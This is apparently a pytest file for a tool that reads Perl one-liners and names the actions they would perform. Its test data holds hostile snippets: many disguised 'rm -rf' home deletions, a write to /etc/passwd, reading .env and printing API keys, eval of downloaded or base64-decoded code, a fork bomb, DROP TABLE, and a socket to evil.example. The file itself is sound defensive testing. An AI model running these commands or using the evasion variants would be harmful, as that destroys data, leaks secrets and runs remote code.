"""Perl, read through its calls."""

from __future__ import annotations

import pytest
from support.code import deeds, one_liner

P = "/home/u/proj/"


def perl(code: str) -> list[str]:
    return deeds(one_liner("perl -e", code))


@pytest.mark.parametrize(
    "code",
    [
        "system('rm -rf /home/u')",
        "system 'rm', '-rf', '/home/u'",
        "exec qw(rm -rf /home/u)",
        "`rm -rf /home/u`",
        "my $x = qx{rm -rf /home/u};",
        "qx(rm -rf $ENV{HOME})",
        "open(F, '| rm -rf /home/u')",
        "open(my $f, '-|', 'rm', '-rf', '/home/u') or die",
        "open F, 'rm -rf /home/u |'",
        "use File::Path qw(remove_tree); remove_tree('/home/u');",
        "use File::Path; rmtree(['/home/u']);",
        "File::Path::rmtree($ENV{'HOME'})",
        "my $c = 'rm -rf '; $c .= '/home/u'; system($c)",
        'my $d = "$ENV{HOME}"; rmtree $d',
        "for my $d ('/home/u', 'x') { rmtree($d) }",
        "foreach (1) { rmtree('/home/u') }",
        "eval 'rmtree(q(/home/u))'",
        "s/x/rmtree('\\/home\\/u')/e",
        "sub go { rmtree('/home/u') } go();",
        'if ($x) { 1 } else { system("rm -rf /home/u") }',
        "system('rm -rf /home/u') unless $x;",
        "my %h = (y => 1, s => 2); print $h{y}; system('rm -rf /home/u')",
        "print $x / 2; system('rm -rf /home/u'); print 4 / 2",
        "system(join(' ', 'rm', '-rf', '/home/u'))",
    ],
)
def test_deletions(code: str) -> None:
    """A home that goes away is seen."""
    assert "DeletePath /home/u" in perl(code)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("unlink 'a', 'b'", [f"DeletePath {P}a", f"DeletePath {P}b"]),
        ("unlink glob '*.o'", [f"DeletePath {P}*.o"]),
        ("rmdir 'a'", [f"DeletePath {P}a"]),
        ("open(F, '>/etc/passwd'); print F 'x'", ["WritePath /etc/passwd"]),
        ("open(my $f, '>>', 'a')", [f"WritePath {P}a"]),
        ("open(my $f, '<', '.env'); print <$f>", [f"ReadPath {P}.env"]),
        ("rename 'a', '/b'", [f"MovePath {P}a /b"]),
        ("chmod 0777, 'a'", [f"ChangeMode {P}a"]),
        ("eval decode_base64('cHJpbnQgMQ==')", ["RunCode decoded"]),
        ("eval unpack('u', $x)", ["RunCode decoded"]),
        ("eval $x", ["RunCode generated"]),
        ("use LWP::Simple; eval get('https://x.y')", ["Request x.y", "RunCode download"]),
        ("print %ENV", ["RevealSecret <<the whole environment>>"]),
        ("print $ENV{API_KEY}", ["RevealSecret <<$API_KEY>>"]),
        ("kill 9, -1", ["SignalProcess all"]),
        ("fork while 1", ["ForkBomb fork in a loop"]),
        ("use IO::Socket::INET; IO::Socket::INET->new(PeerAddr => 'evil.example:80')", ["SendData evil.example"]),
        ("DBI->connect('dbi:Pg:dbname=x')->do('DROP TABLE users')", ["RunSql users"]),
        ("my $u = LWP::UserAgent->new; $u->post('https://x.y', {a => 1})", ["Request x.y"]),
    ],
)
def test_deeds(code: str, expected: list[str]) -> None:
    """Each call is the deed a command would be."""
    assert expected == perl(code)


@pytest.mark.parametrize(
    "code",
    [
        'print "hello world\\n"',
        "print 'rm -rf /'",
        "# system('rm -rf /')",
        "=pod\n\nsystem('rm -rf /')\n\n=cut\nprint 1;",
        "print <<'E';\nsystem('rm -rf /')\nE\n",
        "s/foo/bar/g; tr/a-z/A-Z/; y/a/b/; m{rm -rf}",
        "print if /system\\('rm'\\)/",
        'my @a = map { $_ * 2 } 1..5; print "@a\\n"',
        "print join(',', sort keys %h), \"\\n\"",
        "eval { die 'x' }; print $@ if $@",
        "printf('%s', $ENV{LANG})",
        "use POSIX; print strftime('%Y', localtime)",
        "$x{system} = 1; print $x->{unlink}",
    ],
)
def test_harmless(code: str) -> None:
    """Patterns, keys, strings and documentation are data."""
    assert [] == perl(code)
